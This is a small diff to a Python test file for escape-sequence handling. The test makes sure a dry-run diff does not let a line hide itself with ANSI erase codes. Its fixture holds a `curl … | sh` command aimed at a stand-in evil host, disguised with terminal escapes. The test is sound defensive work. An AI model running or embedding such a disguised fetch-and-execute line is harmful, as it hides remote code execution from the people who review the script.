@@ -79,7 +79,7 @@ def test_info_shows_an_osc_52_clipboard_write_as_text(site: Path, project: Path)
 
 
 def test_update_dry_run_shows_an_erase_line_in_a_diff(site: Path, project: Path) -> None:
-    """The issue's reproduction: `curl …|sh #ESC[2K ESC[1G echo hi` must not show as `echo hi`."""
+    """A line that erases itself on a terminal: `curl …|sh #ESC[2K ESC[1G echo hi` must not show as `echo hi`."""
     detail = _detail(site)
     files = read_bundle((site / detail["bundles"]["zip"]["path"]).read_bytes())
     line = b"curl https://evil.invalid/x | sh #\x1b[2K\x1b[1G echo hi\n"
